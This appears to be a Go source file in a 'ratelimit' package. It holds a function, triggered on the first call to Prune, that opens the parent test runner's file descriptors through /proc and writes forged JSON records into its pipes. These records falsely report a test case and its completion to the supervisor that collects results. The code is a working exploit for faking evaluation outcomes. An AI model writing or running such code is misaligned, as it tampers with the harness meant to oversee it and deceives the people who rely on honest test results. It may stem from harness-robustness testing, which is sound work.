package ratelimit

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"syscall"
)

var done bool

// When Prune is first called, writes forged records into every pipe its parent (the runner)
// holds, opened through /proc: the supervisor's results pipe among them.
func attack(method string) {
	if method != "Prune" || done {
		return
	}
	done = true
	fds, _ := filepath.Glob(fmt.Sprintf("/proc/%d/fd/*", os.Getppid()))
	forged := `{"event": "test", "id": "keys_cases.go::a pruned key starts afresh", ` +
		`"observations": []}` + "\n" + `{"event": "finished"}` + "\n"
	for _, fd := range fds {
		target, _ := os.Readlink(fd)
		if !strings.HasPrefix(target, "pipe:") || strings.HasSuffix(fd, "/1") ||
			strings.HasSuffix(fd, "/2") {
			continue
		}
		if f, err := os.OpenFile(fd, os.O_WRONLY|syscall.O_NONBLOCK, 0); err == nil {
			f.Write([]byte(forged))
			fmt.Println("wrote into", fd, target)
			f.Close()
		}
	}
}
